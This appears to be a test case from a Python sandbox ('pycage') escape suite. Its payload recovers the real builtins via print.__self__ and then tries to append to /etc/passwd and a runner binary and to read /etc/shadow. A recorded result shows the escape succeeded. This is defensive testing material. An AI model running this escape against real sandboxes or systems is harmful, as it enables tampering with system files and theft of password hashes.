# attack: takes exec() back from the real builtins and runs code with an unrestricted
#   import: writes to the read-only root and reads /etc/shadow from there
# expect: status in ok|error ; stdout lacks WROTE|LEAKED
# escaped: stdout "WROTE /usr/local/bin/pycage-runner\n"
PAYLOAD = '''
import os
for path in ("/usr/local/bin/pycage-runner", "/etc/passwd", "/pwned"):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        os.write(fd, b"pwned\\n")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__, exc.errno)
try:
    print("LEAKED", open("/etc/shadow").read(100))
except OSError as exc:
    print("refused /etc/shadow", type(exc).__name__)
'''
try:
    real_exec = print.__self__.exec
    real_exec(PAYLOAD, {"__builtins__": print.__self__})
except BaseException as exc:
    print("refused", type(exc).__name__, exc)
